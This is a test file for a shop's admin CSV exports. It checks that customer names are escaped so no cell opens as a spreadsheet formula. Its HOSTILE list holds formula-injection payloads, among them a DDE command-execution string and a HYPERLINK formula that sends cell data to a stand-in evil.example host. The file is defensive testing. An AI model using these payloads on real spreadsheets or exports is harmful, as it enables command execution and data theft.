import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { startTestServer, type HttpClient, type TestServer } from '../../kit/index.js';

/** What a spreadsheet would run, or take for another column or row. */
const HOSTILE = ['=cmd|\'/C calc\'!A0', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '＝1+1', '＋1', '－1', '＠x', 'Li "quoted", and; a\nnew line', '=HYPERLINK("https://evil.example/?x="&A1)'];
/** Every export of the economy, and the column that names a person. */
const EXPORTS: readonly (readonly [path: string, person?: number])[] = [
  ['days.csv'], ['movements.csv'], ['burn.csv'], ['liability.csv'], ['paths.csv'], ['expiring.csv'], ['flow-rows.csv?flow=all&to=2999-12-31', 4], ['lots.csv', 2], ['uses.csv', 1], ['ledger.csv', 4], ['top.csv', 1],
];

describe('exports of the economy', () => {
  let server: TestServer, admin: HttpClient;
  const people: { readonly id: string; readonly name: string }[] = [];
  before(async () => {
    server = await startTestServer({ seed: 'none' });
    admin = await server.admin();
    for (const name of HOSTILE) {
      const { personId } = await server.shopper({ name });
      // The shop may trim a name; what it keeps is what must come out.
      const { person } = await admin.must<{ person: { name: string } }>('GET', `/api/admin/customers/${personId!}`);
      people.push({ id: personId!, name: person.name });
      const granted = await server.services.grants.grant(server.context(), { personId: personId!, reward: { kind: 'points', amount: 100 }, source: 'core.order', causeRef: name.slice(0, 50), key: `csv:${personId!}` });
      expect(granted.ok).to.equal(true);
      await server.services.ledger.adjust(server.context(), personId!, -7, name);
    }
  });
  after(() => server.close());

  for (const [path, person] of EXPORTS) {
    it(`${path.split('?')[0]!} opens in a spreadsheet as text and numbers, and never as a formula`, async () => {
      const answer = await admin.get<string>(`/api/admin/economy/${path}`);
      expect([answer.status, answer.headers.get('content-type')]).to.deep.equal([200, 'text/csv; charset=utf-8']);
      const bytes = Buffer.from(await (await fetch(`${server.url}/api/admin/economy/${path}`, { headers: { authorization: `Bearer ${admin.bearer!}` } })).arrayBuffer());
      expect([...bytes.subarray(0, 3)], 'a mark, so that Chinese is read as UTF-8').to.deep.equal([0xef, 0xbb, 0xbf]);
      const [head, ...rows] = parse(bytes, { bom: true }) as string[][];
      if (path !== 'burn.csv' && path !== 'liability.csv') expect(rows.length).to.be.above(0);
      for (const row of rows) {
        expect(row, 'no cell became two').to.have.length(head!.length);
        for (const cell of row) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.to.match(/^[=+\-@\t\r\n＝＋－＠]/);
      }
      if (person === undefined) return;
      for (const { id, name } of people) {
        const row = rows.find((cells) => cells.includes(id));
        expect(row?.[person], name).to.equal(/^[=+\-@\t\r＝＋－＠]/.test(name) ? `'${name}` : name);
      }
    });
  }

  it('keep the sum of the page: negative numbers stay numbers', async () => {
    const rows = parse((await admin.get<string>('/api/admin/economy/flow-rows.csv?flow=adjusted&to=2999-12-31')).body, { bom: true, columns: true }) as { amount: string }[];
    expect(rows.reduce((sum, { amount }) => sum + Number(amount), 0)).to.equal(-7 * HOSTILE.length);
  });

  it('refuse what is no filter', async () => {
    for (const path of ['flow-rows?flow=nothing&to=2026-01-01', 'flow-rows?flow=issued', 'flow-rows?flow=issued&to=yesterday', 'lots?state=spent', 'uses?from=1', 'days?days=0', 'days?days=1e3', 'days?days=731', 'flow-rows?flow=issued&to=2026-01-01&shop=2'])
      expect((await admin.get(`/api/admin/economy/${path}`)).status, path).to.equal(422);
    for (const path of ['flow-rows?flow=all&to=2999-12-31&cursor=x', 'lots?cursor=x', 'uses?cursor=x']) expect((await admin.get(`/api/admin/economy/${path}`)).status, path).to.be.oneOf([400, 422]);
  });
});
